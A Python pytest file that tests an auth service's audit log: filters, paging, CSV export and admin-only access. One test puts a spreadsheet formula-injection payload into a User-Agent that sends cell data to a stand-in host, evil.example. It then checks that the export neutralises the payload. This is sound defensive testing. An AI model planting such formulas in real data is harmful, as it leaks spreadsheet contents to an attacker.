"""The audit as admins read it: filtered, in pages, and as a file that is safe to open."""

import csv
from datetime import timedelta
from io import StringIO

import pytest

from auth.administration import disable
from auth.audit import Event
from auth.client import Client
from auth.errors import LogInRefused, RoleNeeded, SessionOver
from auth.service import AuthService
from auth.sessions import Session
from features.audit_log.rules import PAGE, EventFilter, export_csv, find_user_id, list_events
from tests.fixtures import Clock, Person, open_session

PASSWORD = "kumquat lantern orbit"


def test_events_are_filtered_by_user_kind_and_time(
    service: AuthService, admin: Session, clock: Clock
) -> None:
    """LG-1: about the user, or done by them; the newest first."""
    bob = service.sign_up("bob@example.com", PASSWORD)
    clock.advance(timedelta(minutes=1))
    disable(service, bob.id, by=admin)

    def found(*filters: object) -> list[tuple[str, str | None]]:
        entries = list_events(service, admin, EventFilter(*filters))  # type: ignore[arg-type]
        seen = [entry for entry in entries if entry.event != Event.LINK_SENT]  # in the background
        return [(entry.event, entry.email) for entry in seen]

    mine = find_user_id(service, admin, " ADA@example.com ")
    assert found(bob.id) == [(Event.USER_CHANGED, bob.email), (Event.USER_CREATED, bob.email)]
    assert found(mine)[0] == (Event.USER_CHANGED, bob.email)
    assert found(mine)[-1] == (Event.USER_CREATED, admin.user.email)
    assert found(None, Event.USER_CREATED) == [
        (Event.USER_CREATED, bob.email),
        (Event.USER_CREATED, admin.user.email),
    ]
    assert found(None, None, clock.now) == [(Event.USER_CHANGED, bob.email)]
    assert (Event.USER_CHANGED, bob.email) not in found(None, None, None, clock.now)


def test_a_long_log_comes_in_pages(service: AuthService, admin: Session) -> None:
    """Each from the last event of the one before, also where many have the same time."""
    for number in range(PAGE):
        service.sign_up(f"user{number}@example.com", PASSWORD)

    seen = []
    before = None
    while page := list_events(service, admin, EventFilter(event=Event.USER_CREATED), before):
        seen += page[:PAGE]
        before = (page[PAGE - 1].at, page[PAGE - 1].id) if len(page) > PAGE else None
        if before is None:
            break

    assert len(seen) == len({entry.id for entry in seen}) == PAGE + 1


def test_the_file_holds_what_is_filtered_and_no_formula(
    service: AuthService, admin: Session
) -> None:
    """A spreadsheet would run what an attacker put into a User-Agent."""
    evil = Client("203.0.113.9", '=HYPERLINK("https://evil.example?"&A1,"Open")')
    with pytest.raises(LogInRefused):
        service.log_in(admin.user.email, "not the password", evil)

    rows = list(
        csv.DictReader(StringIO(export_csv(service, admin, EventFilter(event=Event.LOG_IN_FAILED))))
    )

    assert [row["email"] for row in rows] == [admin.user.email]
    assert rows[0]["user_agent"] == f"'{evil.user_agent}"
    assert rows[0]["at"].endswith("+00:00")


def test_only_an_admin_reads_the_log(service: AuthService, ada: Person, token: str) -> None:
    """RO-2: the file too, which is made after the page."""
    session = open_session(service, token)
    for refused in (
        lambda: list_events(service, session, EventFilter()),
        lambda: find_user_id(service, session, ada.email),
        lambda: export_csv(service, session, EventFilter()),
    ):
        with pytest.raises(RoleNeeded):
            refused()
    service.log_out(token)

    with pytest.raises(SessionOver):
        export_csv(service, session, EventFilter())
